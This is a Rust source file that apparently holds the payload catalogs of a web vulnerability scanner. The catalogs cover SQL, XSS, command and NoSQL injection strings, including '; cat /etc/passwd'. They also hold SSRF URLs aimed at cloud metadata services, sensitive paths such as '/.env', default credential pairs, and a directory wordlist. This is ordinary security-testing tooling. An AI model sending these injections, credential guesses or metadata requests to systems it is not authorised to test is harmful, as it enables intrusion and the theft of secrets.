// File: payloads.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2023-2025
// - Volker Schwaberow <volker@schwaberow.de>

pub const SQL_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1 --",
    "' OR 'a'='a",
    "admin'--",
    "' UNION SELECT 1,2,3 --",
    "' AND 'x'='x",
    "' AND SLEEP(5) --",
    "' AND 1=CAST(CHAR(97)+CHAR(98)+CHAR(99) AS NVARCHAR(4000)) --",
    "admin' #",
    "' ORDER BY 1--",
    "' OR 'x'='x'/*",
];
pub const SQL_TIME_BASED: &str = "' OR IF(1=1, SLEEP(5), 0) --";

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "'\"><script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "\"><img src=x onerror=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
];

/// Each family opens with an echo canary; the quoting keeps the payload text
/// from matching the `VULN_CANARY` it prints.
pub const COMMAND_PAYLOADS_UNIX: &[&str] = &[
    ";echo VULN''_CANARY",
    ";id",
    "| id",
    "&& id",
    "`id`",
    "$(id)",
    "; cat /etc/passwd",
    ";echo $((1337*1337))",
];
pub const COMMAND_PAYLOADS_WINDOWS: &[&str] = &[
    "& echo VULN^_CANARY",
    "& dir",
    "| dir C:\\",
    "& whoami",
    "| ipconfig",
    "& set /a 1337*1337",
];
pub const COMMAND_TIME_BASED: &str = "; sleep 5";

/// Unix then Windows, the order the scanner walks them in.
pub fn command_payloads() -> impl Iterator<Item = &'static str> + Clone {
    COMMAND_PAYLOADS_UNIX
        .iter()
        .chain(COMMAND_PAYLOADS_WINDOWS.iter())
        .copied()
}

pub const NOSQL_PAYLOADS: &[&str] = &[
    r#"{"$gt": ""}"#,
    r#"{"$ne": ""}"#,
    r#"{"$ne": null}"#,
    r#"{"$exists": true}"#,
    r#"{"$regex": ".*"}"#,
    r#"{"$in": ["admin", "root", "test"]}"#,
    r#"{"username": {"$exists": true}}"#,
    r#"{"password": {"$regex": ".*"}}"#,
];
pub const NOSQL_TIME_BASED: &str = r#"{"$where": "sleep(5000)"}"#;
pub const NOSQL_BASELINE: &str = "securiscan-baseline";

pub const CSRF_HEADERS: &[&str] = &["X-CSRF-Token", "X-XSRF-TOKEN", "X-Requested-With"];

pub const DIRECTORY_WORDLIST: &[&str] = &[
    "admin", "administrator", "api", "app", "assets", "backup", "backups", "bin", "cache", "cgi-bin",
    "config", "console", "css", "data", "database", "db", "debug", "dev", "docs", "download",
    "files", "images", "img", "include", "includes", "install", "js", "lib", "log", "logs",
    "old", "panel", "phpmyadmin", "private", "public", "scripts", "secret", "server-status", "setup", "sql",
    "src", "static", "storage", "temp", "test", "tmp", "upload", "uploads", "vendor", "wp-admin",
];
pub const DIRECTORY_EXTENSIONS: &[&str] = &[".php", ".html", ".bak", ".txt"];

pub const FORCED_BROWSING_PATHS: &[&str] = &[
    "/admin",
    "/dashboard",
    "/config",
    "/private",
    "/user/1",
    "/account/settings",
];

pub const IDOR_TESTS: &[(&str, &str)] = &[
    ("user_id", "1"),
    ("account_id", "999"),
    ("order_id", "123456"),
];
pub const ACCESS_TIME_BASED: &str = "/admin?id=1' AND SLEEP(5)--";

pub const SECURITY_HEADERS: &[&str] = &[
    "Content-Security-Policy",
    "X-Frame-Options",
    "X-Content-Type-Options",
    "Strict-Transport-Security",
    "Referrer-Policy",
];

pub const ADMIN_PATHS: &[&str] = &["/admin", "/wp-admin", "/dashboard", "/controlpanel", "/cpanel"];

/// Paths that should never be served, with their severity when they are.
pub const SENSITIVE_PATHS: &[(&str, bool)] = &[
    ("/.env", true),
    ("/.git/HEAD", true),
    ("/server-status", false),
    ("/phpinfo.php", false),
    ("/config.php.bak", false),
];

pub const LOGIN_PATHS: &[&str] = &["/login", "/admin/login", "/user/login", "/wp-login.php", "/signin"];

pub const DEFAULT_CREDENTIALS: &[(&str, &str)] = &[
    ("admin", "admin"),
    ("admin", "password"),
    ("root", "root"),
    ("user", "123456"),
    ("test", "test"),
];
pub const RATE_LIMIT_ATTEMPTS: usize = 5;

pub const NONEXISTENT_PATH: &str = "/securiscan-nonexistent-7f3a9c";

pub const SSRF_PAYLOADS: &[&str] = &[
    "http://127.0.0.1",
    "http://localhost",
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://192.168.1.1",
    "http://internal.example.com",
    "file:///etc/passwd",
];
pub const SSRF_TIME_BASED: &str = "http://10.255.255.1/";

/// Whether an SSRF payload targets a cloud metadata service.
pub fn is_metadata_payload(payload: &str) -> bool {
    payload.contains("169.254.169.254") || payload.contains("metadata.google.internal")
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn test_catalog_sizes() {
        assert_eq!(SQL_PAYLOADS.len(), 11);
        assert_eq!(XSS_PAYLOADS.len(), 8);
        assert_eq!(command_payloads().count(), 14);
        assert_eq!(NOSQL_PAYLOADS.len(), 8);
        assert_eq!(DIRECTORY_WORDLIST.len(), 50);
    }

    #[test]
    fn test_catalogs_have_no_duplicates() {
        let mut words = DIRECTORY_WORDLIST.to_vec();
        words.sort_unstable();
        words.dedup();
        assert_eq!(words.len(), DIRECTORY_WORDLIST.len());
    }

    #[test]
    fn test_nosql_payloads_are_json() {
        for payload in NOSQL_PAYLOADS.iter().chain(std::iter::once(&NOSQL_TIME_BASED)) {
            assert!(serde_json::from_str::<serde_json::Value>(payload).is_ok(), "{}", payload);
        }
    }

    #[test]
    fn test_metadata_payloads() {
        let metadata: Vec<_> = SSRF_PAYLOADS.iter().filter(|p| is_metadata_payload(p)).collect();
        assert_eq!(metadata.len(), 3);
    }
}
